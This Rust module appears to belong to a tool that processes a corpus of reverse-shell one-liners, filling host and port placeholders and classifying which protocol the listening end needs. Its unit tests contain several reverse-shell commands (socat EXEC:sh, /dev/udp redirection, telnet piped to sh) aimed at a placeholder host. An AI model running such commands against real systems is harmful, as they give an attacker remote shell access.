//! What a corpus line says about the other end.

/// Numbers for a line's placeholders.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Ports {
    pub(crate) port: u16,
    pub(crate) second: u16,
    pub(crate) http: u16,
}

/// How the attacker has to speak.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Speech {
    Tcp,
    /// With the port that datagrams come from, where the line fixes it.
    Udp(Option<u16>),
    Tls,
    /// TLS with a shared key.
    SharedKey(String),
    Dtls,
    /// A SOCKS server of version 4 or 5 that plays the destination itself.
    Socks(u8),
    /// An HTTP proxy that plays the destination itself.
    Proxy,
}

impl Ports {
    /// The line with its placeholders filled.
    pub(crate) fn fill(&self, line: &str, host: &str) -> String {
        line.replace("{HOST}", host)
            .replace("{PORTHEX}", &format!("{:04x}", self.port))
            .replace("{PORT2}", &self.second.to_string())
            .replace("{PORT}", &self.port.to_string())
            .replace("{HTTP}", &self.http.to_string())
    }
}

/// What a line (with its placeholders still in) needs at the other end.
pub(crate) fn speech(line: &str, ports: &Ports) -> Speech {
    let low = line.to_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| low.contains(word));
    if let Some(key) = key_of(line) {
        return Speech::SharedKey(key);
    }
    if has(&["dtls"]) {
        return Speech::Dtls;
    }
    if has(&["openssl", "ssl:", "ssl-l:", "--ssl", "tlssocket", "ssl_client"]) {
        return Speech::Tls;
    }
    if has(&["socks5"]) {
        return Speech::Socks(5);
    }
    if has(&["socks4", "socks:"]) {
        return Speech::Socks(4);
    }
    if has(&["proxy:", "proxy-connect:"]) {
        return Speech::Proxy;
    }
    if has(&[
        "/dev/udp/",
        "udp:",
        "udp4:",
        "udp6:",
        "udp-",
        "udp4-",
        "udp6-",
        "sock_dgram",
        "nc -u",
        "ncat -u",
    ]) {
        return Speech::Udp(low.contains("sourceport={port2}").then_some(ports.second));
    }
    Speech::Tcp
}

/// Ports that the line itself calls: the attacker listens there.
pub(crate) fn called_ports(line: &str, ports: &Ports) -> Vec<u16> {
    let mut called = vec![ports.port];
    let own = ["LISTEN:{PORT2}", "listen:{PORT2}", "-l:{PORT2}", "-L:{PORT2}", "sourceport={PORT2}"];
    if line.contains("{PORT2}") && !own.iter().any(|form| line.contains(form)) {
        called.push(ports.second);
    }
    called
}

/// `-psk KEY`, also by way of a variable `PSK`.
fn key_of(line: &str) -> Option<String> {
    line.contains("-psk").then_some(())?;
    let long = |word: &&str| word.len() >= 16 && word.chars().all(|c| c.is_ascii_hexdigit());
    line.split(|c: char| !c.is_ascii_alphanumeric()).find(long).map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::{Ports, Speech, called_ports, speech};

    const PORTS: Ports = Ports { port: 0x1234, second: 2, http: 3 };

    #[test]
    fn placeholders_are_filled() {
        let line = "{HOST} {PORT} {PORT2} x{PORTHEX} {HTTP}";
        assert_eq!(PORTS.fill(line, "::1"), "::1 4660 2 x1234 3");
    }

    #[test]
    fn the_other_end_is_told_by_the_line() {
        let said = |line: &str| speech(line, &PORTS);
        assert_eq!(said("socat TCP:{HOST}:{PORT} EXEC:sh"), Speech::Tcp);
        assert_eq!(said("sh -i >& /dev/udp/{HOST}/{PORT} 0>&1"), Speech::Udp(None));
        assert_eq!(said("socat UDP:{HOST}:{PORT},sourceport={PORT2} EXEC:sh"), Speech::Udp(Some(2)));
        assert_eq!(said("openssl s_client -connect {HOST}:{PORT}"), Speech::Tls);
        assert_eq!(said("socat SOCKS4:{HOST}:a:1,socksport={PORT} EXEC:sh"), Speech::Socks(4));
        let key = "0123456789abcdef0123";
        assert_eq!(
            said(&format!("PSK=\"{key}\"; openssl s_client -psk $PSK")),
            Speech::SharedKey(key.to_owned())
        );
    }

    #[test]
    fn a_second_port_is_the_attackers_unless_the_line_listens_there() {
        assert_eq!(called_ports("telnet {HOST} {PORT} | sh | telnet {HOST} {PORT2}", &PORTS), [0x1234, 2]);
        assert_eq!(called_ports("socat TCP-LISTEN:{PORT2} EXEC:sh", &PORTS), [0x1234]);
    }
}
